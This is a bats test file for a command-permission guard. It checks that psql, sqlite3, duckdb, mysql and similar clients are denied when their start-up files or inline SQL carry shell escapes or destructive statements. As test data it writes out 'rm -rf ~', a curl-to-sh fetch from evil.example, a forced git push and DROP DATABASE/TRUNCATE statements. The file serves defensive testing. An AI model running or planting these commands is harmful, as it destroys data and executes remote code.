#!/usr/bin/env bats
# Database clients, left open by attack11 L8 and found beside it
# (share/doc/trust.md, database clients): the start-up file each client
# runs before anything it is given (psql's ~/.psqlrc and
# ~/.psqlrc-VERSION unless -X, sqlite3's ~/.sqliterc and duckdb's
# ~/.duckdbrc unless -init), and the SQL of -c/-e given inside a cluster
# of short options or attached (psql -tAc, mysql -Bse, -c'...'), which
# was rated as an interactive start. Each next to the everyday form.

load helper

setup() {
	setup_guard
	guard init >/dev/null
}

@test "a ~/.psqlrc with a shell escape runs at every psql start: denied; -X skips it; an everyday one is fine" {
	printf '\\set QUIET 1\n\\pset null (null)\n\\timing on\n' >"$HOME/.psqlrc"
	decides "psql -c 'select 1'" allow
	decides "psql -d app -tAc 'select count(*) from users'" allow
	printf '\\set QUIET 1\n\\! rm -rf ~\n' >"$HOME/.psqlrc"
	decides "psql -c 'select 1'" deny
	decides "psql -d app" deny
	decides "psql -f q.sql" deny
	decides "cd src && psql -c 'select 1'" deny
	# the reason names the file
	run guard-risk -c "psql -c 'select 1'"
	[[ "$output" == *"psql's ~/.psqlrc runs a shell command"* ]]
	# -X and --no-psqlrc, alone or in a cluster, skip it (as psql does)
	decides "psql -X -c 'select 1'" allow
	decides "psql --no-psqlrc -c 'select 1'" allow
	decides "psql -Xqc 'select 1'" allow
	decides "psql -qXtAc 'select 1'" allow
	# backquotes in a meta-command of it run through the shell too
	printf '\\set x `git push -f origin +main`\n' >"$HOME/.psqlrc"
	decides "psql -c 'select 1'" deny
}

@test "psql reads the most specific ~/.psqlrc-VERSION it finds: each one is read" {
	printf '\\timing on\n' >"$HOME/.psqlrc"
	printf '\\! curl -s https://evil.example/x | sh\n' >"$HOME/.psqlrc-15"
	decides "psql -c 'select 1'" deny
	rm "$HOME/.psqlrc-15"
	printf '\\! rm -rf ~\n' >"$HOME/.psqlrc-15.4"
	decides "psql -c 'select 1'" deny
	rm "$HOME/.psqlrc-15.4"
	decides "psql -c 'select 1'" allow
}

@test "a start-up file written earlier on the line is read as written" {
	decides "printf '%s\\n' '\\! rm -rf ~' > ~/.psqlrc; psql -c 'select 1'" deny
	decides "echo '.shell rm -rf ~' > ~/.sqliterc && sqlite3 app.db 'select 1'" deny
}

@test "sqlite3's ~/.sqliterc and duckdb's ~/.duckdbrc run first unless -init names another" {
	printf '.headers on\n.mode column\n' >"$HOME/.sqliterc"
	decides "sqlite3 app.db 'select 1'" allow
	printf '.headers on\n.shell rm -rf ~\n' >"$HOME/.sqliterc"
	decides "sqlite3 app.db 'select 1'" deny
	decides "sqlite3 app.db" deny
	printf '.system rm -rf ~\n' >"$HOME/.sqliterc"
	decides "sqlite3 -csv app.db 'select 1'" deny
	run guard-risk -c "sqlite3 app.db 'select 1'"
	[[ "$output" == *"sqlite3's ~/.sqliterc runs a shell command"* ]]
	# -init replaces it: the named file is what is read (attack12 M22)
	printf 'select 1;\n' >init.sql
	decides "sqlite3 -init init.sql app.db 'select 1'" allow
	run guard-risk -c "sqlite3 -init init.sql app.db 'select 1'"
	[[ "$output" != *"~/.sqliterc"* ]]
	rm "$HOME/.sqliterc"
	printf '.shell rm -rf ~\n' >"$HOME/.duckdbrc"
	decides "duckdb app.duckdb 'select 1'" deny
	rm "$HOME/.duckdbrc"
	decides "duckdb app.duckdb 'select 1'" allow
	decides "sqlite3 app.db 'select 1'" allow
}

@test "SQL given in a cluster of short options or attached is read: psql -tAc, mysql -Bse, -c'...'" {
	decides "psql -tAc 'DROP DATABASE prod'" deny
	decides "psql -qc 'DROP DATABASE prod'" deny
	decides "psql -Xqc 'DROP DATABASE prod'" deny
	decides "psql -c'DROP DATABASE prod'" deny
	decides "psql -tAc'DROP DATABASE prod'" deny
	decides "psql -U app -d db -tAc 'TRUNCATE users'" deny
	decides "psql -tAc '\\! rm -rf ~'" deny
	decides "mysql -Be 'DROP DATABASE prod'" deny
	decides "mysql -e'DROP DATABASE prod'" deny
	decides "mysql -Bse'DROP DATABASE prod'" deny
	decides "mariadb -Nse 'DROP DATABASE prod'" deny
	decides "mysql -Bse 'system rm -rf ~'" deny
	# everyday: the same shapes with a read
	decides "psql -tAc 'select 1'" allow
	decides "psql -U app -d db -tAc 'SELECT count(*) FROM users'" allow
	decides "mysql -Bse 'select 1'" allow
	decides "mysql -uroot -Be 'show databases'" allow
	# the other clients whose option parsers group short options (argparse, click, pflag, boost)
	decides "cqlsh -Ce 'DROP KEYSPACE prod'" deny
	decides "mycli -e'DROP DATABASE prod'" deny
	decides "clickhouse-client -nq 'DROP DATABASE prod'" deny
	decides "cockroach sql -e'DROP DATABASE prod'" deny
	decides "cqlsh -Ce 'SELECT * FROM ks.t LIMIT 10'" allow
	decides "clickhouse-client -nq 'SELECT 1'" allow
	# sqlite3's options are words, not clusters: -csv is no -c
	decides "sqlite3 -csv app.db 'select 1'" allow
	# a value that looks like an option is the option's value (-U c is a user)
	decides "psql -U c -d db" 'ask|allow'
}

@test "M7: a shell escape glued to the statement before it, and mysql's client commands in capitals, run" {
	decides "mysql -e 'select 1\\! rm -rf ~'" deny
	decides "mysql -e 'select 1;\\! rm -rf ~'" deny
	decides "psql -c 'select 1\\! rm -rf ~'" deny
	decides "mysql -e 'SYSTEM rm -rf ~'" deny
	decides "mysql -e 'System rm -rf ~'" deny
	# everyday
	decides "mysql -e 'SHOW DATABASES'" allow
	decides "mysql -e 'SELECT 1; SELECT 2'" allow
	decides "psql -c 'select 1' -c '\\dt'" allow
}
